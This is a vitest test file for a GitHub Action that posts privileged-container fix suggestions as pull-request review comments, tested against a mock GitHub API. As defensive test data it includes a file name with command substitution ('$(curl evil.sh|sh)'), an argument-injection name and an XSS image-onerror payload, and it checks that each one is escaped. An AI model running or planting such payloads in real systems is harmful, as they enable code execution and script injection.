// Fix suggestions on a pull request: the diff parsing and suggestion planning (pure), and the
// review flow against the loopback API server, which checks every call against GitHub's OpenAPI
// description and rejects comments on lines outside the diff as GitHub does.
import { mkdtemp, mkdir, rm, writeFile } from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { finalize, type Finding } from '../../src/findings/model.js'
import type { FileFix, FixPlan } from '../../src/fix/model.js'
import { createClient, readRunContext, type RunContext } from '../../src/github/index.js'
import {
  DIFFERENT_FILE,
  OUTSIDE_DIFF,
  fenceFor,
  planSuggestions,
  rightSideLines,
  suggestionKey,
  type DiffLines
} from '../../src/github/review-plan.js'
import { publishFixSuggestions, toCommentFixes } from '../../src/github/review.js'
import { fixesMarkdown } from '../../src/report/comment.js'
import type { Logger } from '../../src/log.js'
import {
  BOT_LOGIN,
  githubContext,
  readOnlyTokenFaults,
  startGitHubApi,
  type GitHubApiOptions,
  type GitHubApiServer
} from '../harness/index.js'
import { gitPullFile } from './review-git.js'

const BASE = `apiVersion: apps/v1
kind: Deployment
metadata:
  name: web # the shop front
spec:
  template:
    spec:
      containers:
        - name: app
          image: nginx:1.27
`
// The PR adds a sidecar with a privileged security context, and leaves the rest alone.
const HEAD = `${BASE}        - name: sidecar
          image: busybox:1.36
          securityContext:
            privileged: true
`
const FILE = 'deploy/web.yaml'
const linesOf = (text: string): string[] => text.split('\n')
/** The text of a comment's suggestion block. */
const suggestionBlock = (body: string): string | undefined =>
  /^(`{3,})suggestion\n([\s\S]*?)\n?\1$/m.exec(body)?.[2]

function finding(message: string, line: number, file = FILE): Finding {
  return finalize({
    scanner: 'policies',
    target: 'manifests',
    ruleId: 'pss-baseline/privileged',
    title: 'Privileged container',
    severity: 'HIGH',
    message,
    resource: 'Deployment/web',
    location: { path: file, startLine: line }
  })
}

const privileged = finding('Deployment web: container "sidecar" is privileged.', 14)
/** Replaces `privileged: true` (line 14) with the safe setting. */
const dropPrivileged: FileFix = {
  path: FILE,
  edits: [{ startLine: 14, endLine: 14, replacement: '            privileged: false\n' }],
  resolves: [privileged.fingerprint]
}

describe('rightSideLines', () => {
  it('numbers the added and context lines of every hunk as the new file does', () => {
    const before = Array.from({ length: 40 }, (_, i) => `line ${i + 1}`).join('\n') + '\n'
    const afterLines = linesOf(before)
    afterLines[2] = 'changed 3'
    afterLines.splice(30, 1, 'new 31a', 'new 31b')
    const after = afterLines.join('\n')
    const { patch } = gitPullFile('f.txt', before, after)
    const diff = rightSideLines(patch)
    const newLines = linesOf(after)
    expect([...diff.values()].map((l) => l.hunk)).toContain(1)
    for (const [number, line] of diff) expect(line.text).toBe(newLines[number - 1])
    expect([...diff].filter(([, l]) => l.added).map(([n]) => n)).toEqual([3, 31, 32])
    expect(diff.get(3)?.hunk).toBe(0)
    expect(diff.get(31)?.hunk).toBe(1)
    expect(diff.has(20)).toBe(false)
  })

  it('reads an added file, a missing newline marker and no patch at all', () => {
    const added = rightSideLines(gitPullFile('new.yaml', undefined, 'a: 1\nb: 2').patch)
    expect([...added]).toEqual([
      [1, { text: 'a: 1', added: true, hunk: 0 }],
      [2, { text: 'b: 2', added: true, hunk: 0 }]
    ])
    expect(rightSideLines(undefined).size).toBe(0)
    expect(rightSideLines('Binary files differ').size).toBe(0)
  })
})

describe('planSuggestions', () => {
  const diffOf = (before: string | undefined, after: string): Map<string, DiffLines> =>
    new Map([[FILE, rightSideLines(gitPullFile(FILE, before, after).patch)]])
  const plan = (fixes: FileFix[], findings: Finding[] = [privileged], scanned = HEAD) =>
    planSuggestions({
      fixes,
      findings,
      diff: diffOf(BASE, HEAD),
      scanned: new Map([[FILE, linesOf(scanned)]]),
      markerId: 'build'
    })

  it('suggests a fix on lines the pull request changed, naming what it resolves', () => {
    const { suggestions, elsewhere } = plan([dropPrivileged])
    expect(elsewhere).toEqual([])
    expect(suggestions).toHaveLength(1)
    const [s] = suggestions
    expect(s).toMatchObject({ path: FILE, startLine: 14, endLine: 14, fix: dropPrivileged })
    expect(s!.body.split('\n')[0]).toBe(`<!-- hardening-action:fix-build key=${s!.key} -->`)
    expect(s!.body).toContain('HIGH <code>pss-baseline/privileged</code>')
    expect(s!.body).toContain('container "sidecar" is privileged.')
    expect(s!.body.endsWith('```suggestion\n            privileged: false\n```')).toBe(true)
    expect(suggestionKey(s!.body, 'build')).toBe(s!.key)
    expect(suggestionKey(s!.body, 'other-job')).toBeUndefined()
  })

  it('lists a fix elsewhere when one of its lines is outside the diff or across hunks', () => {
    const onUnchangedLine: FileFix = {
      ...dropPrivileged,
      edits: [{ startLine: 2, endLine: 2, replacement: 'kind: Deployment\n' }]
    }
    const partly: FileFix = {
      ...dropPrivileged,
      edits: [
        ...dropPrivileged.edits,
        { startLine: 1, endLine: 1, replacement: 'apiVersion: apps/v1\n' }
      ]
    }
    const { suggestions, elsewhere } = plan([onUnchangedLine, partly])
    expect(suggestions).toEqual([])
    expect(elsewhere).toEqual([
      { fix: onUnchangedLine, reason: OUTSIDE_DIFF },
      { fix: partly, reason: OUTSIDE_DIFF }
    ])

    const before = Array.from({ length: 30 }, (_, i) => `k${i + 1}: v`).join('\n') + '\n'
    const after = before.replace('k2: v', 'k2: w').replace('k28: v', 'k28: w')
    const acrossHunks: FileFix = {
      path: FILE,
      edits: [{ startLine: 2, endLine: 28, replacement: 'x: y\n' }],
      resolves: []
    }
    const across = planSuggestions({
      fixes: [acrossHunks],
      findings: [],
      diff: diffOf(before, after),
      scanned: new Map([[FILE, linesOf(after)]]),
      markerId: 'build'
    })
    expect(across.elsewhere).toEqual([{ fix: acrossHunks, reason: OUTSIDE_DIFF }])

    // Hunks that abut (another diff tool's, or -U0 output): the range is shown but not in one hunk.
    const abutting = new Map([[FILE, rightSideLines('@@ -1 +1 @@\n-a\n+b\n@@ -2 +2 @@\n-c\n+d')]])
    const overBoth: FileFix = {
      ...acrossHunks,
      edits: [{ startLine: 1, endLine: 2, replacement: 'x\n' }]
    }
    expect(
      planSuggestions({
        fixes: [overBoth],
        findings: [],
        diff: abutting,
        scanned: new Map([[FILE, ['b', 'd']]]),
        markerId: 'build'
      }).elsewhere
    ).toEqual([{ fix: overBoth, reason: OUTSIDE_DIFF }])
  })

  it('does not suggest on a file whose scanned lines differ from the pull request head', () => {
    const merged = HEAD.replace('privileged: true', 'privileged: true # base added a comment')
    expect(plan([dropPrivileged], [privileged], merged).elsewhere).toEqual([
      { fix: dropPrivileged, reason: DIFFERENT_FILE }
    ])
  })

  it('joins the edits of a fix within one hunk into one multi-line suggestion', () => {
    const twoEdits: FileFix = {
      path: FILE,
      edits: [
        { startLine: 11, endLine: 11, replacement: '        - name: sidecar # hardened\n' },
        {
          startLine: 14,
          endLine: 14,
          replacement:
            '            privileged: false\n            allowPrivilegeEscalation: false\n'
        }
      ],
      resolves: [privileged.fingerprint]
    }
    const [joined, ...rest] = plan([twoEdits]).suggestions
    expect(rest).toEqual([])
    expect(joined).toMatchObject({ startLine: 11, endLine: 14 })
    expect(suggestionBlock(joined!.body)).toBe(
      [
        '        - name: sidecar # hardened',
        '          image: busybox:1.36',
        '          securityContext:',
        '            privileged: false',
        '            allowPrivilegeEscalation: false'
      ].join('\n')
    )
    expect(joined!.body).not.toContain('part 1')
    const [again] = plan([twoEdits]).suggestions
    const [single] = plan([dropPrivileged]).suggestions
    expect(again!.key).toBe(joined!.key)
    expect(single!.key).not.toBe(joined!.key)
  })

  it('makes one suggestion per hunk, in parts, when a fix spans two hunks', () => {
    const before = Array.from({ length: 30 }, (_, i) => `k${i + 1}: v`).join('\n') + '\n'
    const after = before.replace('k2: v', 'k2: w').replace('k28: v', 'k28: w')
    const twoHunks: FileFix = {
      path: FILE,
      edits: [
        { startLine: 2, endLine: 2, replacement: 'k2: x\n' },
        { startLine: 28, endLine: 28, replacement: 'k28: x\n' }
      ],
      resolves: []
    }
    const { suggestions } = planSuggestions({
      fixes: [twoHunks],
      findings: [],
      diff: diffOf(before, after),
      scanned: new Map([[FILE, linesOf(after)]]),
      markerId: 'build'
    })
    expect(suggestions.map((s) => [s.startLine, s.endLine, suggestionBlock(s.body)])).toEqual([
      [2, 2, 'k2: x'],
      [28, 28, 'k28: x']
    ])
    expect(suggestions[0]!.body).toContain('part 1 of 2')
  })

  it('escapes what the pull request wrote and fences the replacement beyond its backticks', () => {
    const hostile = finding(
      'container "<img src=x onerror=alert(1)>" pings @security-team | see #12\n- [x] done',
      14
    )
    const fix: FileFix = {
      path: FILE,
      edits: [
        { startLine: 14, endLine: 14, replacement: '            privileged: false # ````\n' }
      ],
      resolves: [hostile.fingerprint]
    }
    const [s] = plan([fix], [hostile]).suggestions
    expect(s!.body).not.toContain('<img')
    expect(s!.body).toContain('&lt;img')
    expect(s!.body).not.toMatch(/(?<![A-Za-z0-9_])@security-team/)
    expect(s!.body).not.toContain('| see')
    expect(s!.body).not.toContain('\n- [x]')
    expect(s!.body).toContain('`````suggestion\n            privileged: false # ````\n`````')
    expect(fenceFor('no ticks')).toBe('```')
    expect(fenceFor('a ``` b')).toBe('````')
  })

  it('writes an empty suggestion for a fix that deletes lines', () => {
    const deletion: FileFix = {
      ...dropPrivileged,
      edits: [{ startLine: 14, endLine: 14, replacement: '' }]
    }
    const [s] = plan([deletion]).suggestions
    expect(s!.body.endsWith('```suggestion\n```')).toBe(true)
  })
})

describe('the fixes section of the PR comment', () => {
  const link = {
    repository: { serverUrl: 'https://github.com', owner: 'o', repo: 'r' },
    sha: 'c0ffee'
  }
  const outside = (file: string): FileFix => ({ ...dropPrivileged, path: file })

  it('counts the suggestions and gives the command for the rest', () => {
    const text = fixesMarkdown(
      toCommentFixes({
        suggested: [dropPrivileged],
        reviewUrl: 'https://github.com/o/r/pull/7#pullrequestreview-1',
        elsewhere: [{ fix: outside('deploy/legacy.yaml'), reason: OUTSIDE_DIFF }],
        manual: [{ finding: privileged, reason: 'no default is configured' }],
        created: 1,
        kept: 0,
        deleted: 0
      }),
      link
    ).join('\n')
    expect(text).toContain(
      '**1** verified fix suggested on the changed lines in [this review](https://github.com/o/r/pull/7#pullrequestreview-1)'
    )
    expect(text).toContain('```bash\nnpx hardening fix deploy/legacy.yaml\n```')
    expect(text).toContain(
      '| [deploy/legacy.yaml:14](https://github.com/o/r/blob/c0ffee/deploy/legacy.yaml#L14) | 1 |'
    )
    expect(text).toContain('No safe automatic fix: 1')
  })

  it('keeps names from the pull request out of the command and escapes them in the table', () => {
    const hostile = ['deploy/$(curl evil.sh|sh).yaml', '-rf.yaml', 'a`b`.yaml']
    for (const file of hostile) {
      const text = fixesMarkdown(
        toCommentFixes({
          suggested: [],
          elsewhere: [
            { fix: outside('deploy/ok.yaml'), reason: OUTSIDE_DIFF },
            { fix: outside(file), reason: OUTSIDE_DIFF }
          ],
          manual: [],
          created: 0,
          kept: 0,
          deleted: 0
        }),
        link
      ).join('\n')
      expect(text).toContain('```bash\nnpx hardening fix\n```')
    }
    const escaped = fixesMarkdown(
      {
        suggested: 0,
        elsewhere: hostile.map((path) => ({ path, startLine: 1, resolves: 1, reason: 'x' })),
        manual: []
      },
      link
    ).join('\n')
    expect(escaped).toContain('deploy/\\$(curl evil.sh&#124;sh).yaml:1]')
    expect(escaped).toContain('a\\`b\\`.yaml:1]')
    expect(fixesMarkdown({ suggested: 0, elsewhere: [], manual: [] }, link)).toEqual([])
  })
})

describe('publishFixSuggestions against the API server', () => {
  let tmp: string
  let workspace: string
  let api: GitHubApiServer | undefined
  let events = 0

  beforeAll(async () => {
    tmp = await mkdtemp(path.join(os.tmpdir(), 'review-test-'))
    workspace = path.join(tmp, 'ws')
    await mkdir(path.join(workspace, 'deploy'), { recursive: true })
  })
  afterAll(() => rm(tmp, { recursive: true, force: true }))
  afterEach(async () => {
    try {
      api?.assertNoViolations()
    } finally {
      await api?.stop()
      api = undefined
    }
  })

  interface Captured extends Logger {
    warnings: string[]
  }
  const capture = (): Captured => {
    const warnings: string[] = []
    return { warnings, info: () => {}, debug: () => {}, warning: (m) => warnings.push(m) }
  }

  async function start(options: GitHubApiOptions = {}, fork = false) {
    api = await startGitHubApi({ pullFiles: { 7: [gitPullFile(FILE, BASE, HEAD)] }, ...options })
    await writeFile(path.join(workspace, FILE), HEAD)
    const g = githubContext('pull_request', { number: 7, fork })
    const eventFile = path.join(tmp, `event-${events++}.json`)
    await writeFile(eventFile, JSON.stringify(g.payload))
    const ctx: RunContext = readRunContext({
      GITHUB_API_URL: api.url,
      GITHUB_REPOSITORY: g.repository,
      GITHUB_EVENT_NAME: 'pull_request',
      GITHUB_EVENT_PATH: eventFile,
      GITHUB_SHA: g.sha,
      GITHUB_REF: g.ref,
      GITHUB_ACTOR: g.actor
    })
    return { api, ctx, client: createClient(api.token, api.url) }
  }

  const suggest = (
    ctx: RunContext,
    plan: FixPlan,
    log: Logger,
    findings: Finding[] = [privileged]
  ) =>
    publishFixSuggestions(
      {
        ctx,
        token: api!.token,
        plan,
        findings,
        workspace,
        markerId: 'build',
        retry: { retries: 0 }
      },
      log
    )

  it('posts one review on the diff, keeps it on a re-run and replaces it when the fix changes', async () => {
    const { ctx } = await start()
    const log = capture()
    const first = await suggest(ctx, { fixes: [dropPrivileged], manual: [] }, log)
    expect(log.warnings).toEqual([])
    expect(first).toMatchObject({ created: 1, kept: 0, deleted: 0, elsewhere: [] })
    expect(first.suggested).toEqual([dropPrivileged])
    const [review] = api!.reviews(7)
    expect(review).toMatchObject({ event: 'COMMENT', commit_id: ctx.pullRequest!.headSha })
    expect(first.reviewUrl).toContain(`#pullrequestreview-${review!.id}`)
    const [comment] = api!.reviewComments(7)
    expect(comment).toMatchObject({ path: FILE, line: 14, start_line: null, side: 'RIGHT' })

    const again = await suggest(ctx, { fixes: [dropPrivileged], manual: [] }, log)
    expect(again).toMatchObject({ created: 0, kept: 1, deleted: 0 })
    expect(api!.reviews(7)).toHaveLength(1)
    expect(api!.reviewComments(7).map((c) => c.id)).toEqual([comment!.id])

    const changed: FileFix = {
      ...dropPrivileged,
      edits: [
        { startLine: 14, endLine: 14, replacement: '            privileged: false # fixed\n' }
      ]
    }
    const third = await suggest(ctx, { fixes: [changed], manual: [] }, log)
    expect(third).toMatchObject({ created: 1, kept: 0, deleted: 1 })
    const now = api!.reviewComments(7)
    expect(now).toHaveLength(1)
    expect(now[0]!.body).toContain('privileged: false # fixed')

    const fixed = await suggest(ctx, { fixes: [], manual: [] }, log)
    expect(fixed).toMatchObject({ created: 0, kept: 0, deleted: 1 })
    expect(api!.reviewComments(7)).toEqual([])
    expect(api!.reviews(7)).toHaveLength(2)
    expect(log.warnings).toEqual([])
  })

  it('pages through files and review comments, deleting only its own outdated suggestions', async () => {
    // One-line files the PR adds, as `git diff` writes them.
    const filler = Array.from({ length: 130 }, (_, i) => ({
      filename: `docs/page-${i}.md`,
      status: 'added' as const,
      patch: `@@ -0,0 +1 @@\n+page ${i}`
    }))
    const marker = (key: string) => `<!-- hardening-action:fix-build key=${key} -->\nold text`
    const { ctx } = await start({
      // The manifest is listed on the second page of files.
      pullFiles: { 7: [...filler, gitPullFile(FILE, BASE, HEAD)] },
      reviewComments: [
        // Reviewers quoting our marker: more than a page of them.
        ...Array.from({ length: 101 }, (_, i) => ({
          pull: 7,
          path: `docs/page-${i}.md`,
          line: 1,
          body: marker('0'.repeat(24)),
          login: 'reviewer-a'
        })),
        // An earlier run's suggestion that no longer applies, and another job's.
        { pull: 7, path: FILE, line: 13, body: marker('a'.repeat(24)), login: BOT_LOGIN },
        {
          pull: 7,
          path: FILE,
          line: 13,
          body: '<!-- hardening-action:fix-deploy key=bbbbbbbbbbbbbbbbbbbbbbbb -->\nx',
          login: BOT_LOGIN
        }
      ]
    })
    const log = capture()
    const result = await suggest(ctx, { fixes: [dropPrivileged], manual: [] }, log)
    expect(log.warnings).toEqual([])
    expect(result).toMatchObject({ created: 1, kept: 0, deleted: 1 })
    const listed = api!.requests.filter((r) => r.operationId === 'pulls/list-files')
    expect(listed.map((r) => r.status)).toEqual([200, 200])
    const pages = api!.requests.filter((r) => r.operationId === 'pulls/list-review-comments')
    expect(pages).toHaveLength(2)
    const left = api!.reviewComments(7)
    expect(left).toHaveLength(103)
    expect(left.filter((c) => c.user.login === 'reviewer-a')).toHaveLength(101)
    expect(left.filter((c) => c.body.includes('fix-deploy'))).toHaveLength(1)
  })

  it('retries once against the refreshed diff after a 422 for an outdated position', async () => {
    const { ctx } = await start()
    // A push lands while the action runs and reverts the manifest: its lines leave the diff.
    api!.queuePullFiles(7, [gitPullFile('README.md', 'a\n', 'b\n')])
    const log = capture()
    const result = await suggest(ctx, { fixes: [dropPrivileged], manual: [] }, log)
    const creates = api!.requests.filter((r) => r.operationId === 'pulls/create-review')
    expect(creates.map((r) => r.status)).toEqual([422])
    expect(result.suggested).toEqual([])
    expect(result.elsewhere).toEqual([{ fix: dropPrivileged, reason: OUTSIDE_DIFF }])
    expect(log.warnings).toEqual([])
    expect(api!.reviewComments(7)).toEqual([])
  })

  it('posts on the retry what still fits, and degrades with a warning on a second 422', async () => {
    const { ctx } = await start({
      faults: [{ operation: 'pulls/create-review', status: 422, times: 1 }]
    })
    const log = capture()
    const retried = await suggest(ctx, { fixes: [dropPrivileged], manual: [] }, log)
    const creates = api!.requests.filter((r) => r.operationId === 'pulls/create-review')
    expect(creates.map((r) => r.status)).toEqual([422, 200])
    // The retry lets GitHub take its latest head: no commit_id.
    expect((creates[1]!.body as Record<string, unknown>).commit_id).toBeUndefined()
    expect(retried).toMatchObject({ created: 1, suggested: [dropPrivileged] })
    expect(log.warnings).toEqual([])

    api!.setFaults([{ operation: 'pulls/create-review', status: 422 }])
    const moved: FileFix = {
      ...dropPrivileged,
      edits: [{ startLine: 13, endLine: 14, replacement: '          securityContext: {}\n' }]
    }
    const degraded = await suggest(ctx, { fixes: [moved], manual: [] }, log)
    expect(degraded.suggested).toEqual([])
    expect(degraded.elsewhere).toEqual([
      { fix: moved, reason: 'GitHub did not accept the suggestion' }
    ])
    expect(log.warnings).toHaveLength(1)
    expect(log.warnings[0]).toMatch(/rejected the fix suggestions again \(422/)
    // The suggestion that no longer applies is gone all the same.
    expect(api!.reviewComments(7)).toEqual([])
  })

  it('is checked by a server that rejects what GitHub rejects', async () => {
    const before = Array.from({ length: 30 }, (_, i) => `k${i + 1}: v`).join('\n') + '\n'
    const after = before.replace('k2: v', 'k2: w').replace('k28: v', 'k28: w')
    const { client } = await start({ pullFiles: { 7: [gitPullFile(FILE, before, after)] } })
    const review = (comment: Record<string, unknown>) =>
      client.rest.pulls
        .createReview({
          owner: api!.owner,
          repo: api!.repo,
          pull_number: 7,
          event: 'COMMENT',
          body: 'x',
          comments: [{ path: FILE, body: 'x', side: 'RIGHT', ...comment }]
        })
        .then(
          (r) => r.status,
          (e: { status: number }) => e.status
        )
    expect(await review({ line: 5 })).toBe(200) // context line of the first hunk
    expect(await review({ line: 15 })).toBe(422) // between the hunks
    expect(await review({ start_line: 2, start_side: 'RIGHT', line: 28 })).toBe(422)
    expect(await review({ start_line: 25, start_side: 'RIGHT', line: 28 })).toBe(200)
    expect(await review({ path: 'deploy/other.yaml', line: 1 })).toBe(422)
  })

  it('turns a 403 into a warning naming the permission, and skips fork pull requests', async () => {
    const { ctx } = await start({ faults: readOnlyTokenFaults() })
    const log = capture()
    const denied = await suggest(ctx, { fixes: [dropPrivileged], manual: [] }, log)
    expect(denied.elsewhere).toHaveLength(1)
    expect(log.warnings).toHaveLength(1)
    expect(log.warnings[0]).toContain('`pull-requests: write`')
    expect(log.warnings[0]).toContain('403')
    api!.assertNoViolations()
    await api!.stop()

    const fork = await start({}, true)
    const forkLog = capture()
    const skipped = await suggest(fork.ctx, { fixes: [dropPrivileged], manual: [] }, forkLog)
    expect(skipped.elsewhere).toEqual([
      { fix: dropPrivileged, reason: 'this run cannot write to the pull request' }
    ])
    expect(forkLog.warnings[0]).toMatch(/No fix suggestions on the pull request: .*fork/)
    expect(api!.requests).toEqual([])
  })
})
